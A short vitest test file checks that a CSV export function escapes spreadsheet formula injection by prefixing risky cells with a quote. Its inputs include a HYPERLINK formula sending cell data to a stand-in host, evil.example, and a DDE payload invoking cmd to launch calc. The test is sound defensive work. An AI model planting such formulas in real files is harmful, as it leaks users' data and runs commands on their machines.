// The CSV export opened in a spreadsheet: text someone typed is shown, never run as a formula.
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../hub/reports/exports';

describe('a CSV field', () => {
  it('shows typed text that starts like a formula as text', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1;"klik")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1;""klik"")"`);
    expect(csvCell("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csvCell('+62 812')).toBe("'+62 812");
    expect(csvCell('-x')).toBe("'-x");
    expect(csvCell('\tSPSE')).toBe("'\tSPSE");
  });

  it('leaves numbers, plain text and empty cells as they are', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('SPSE Penyedia')).toBe('SPSE Penyedia');
    expect(csvCell('A, B')).toBe('"A, B"');
    expect(csvCell(null)).toBe('');
  });
});
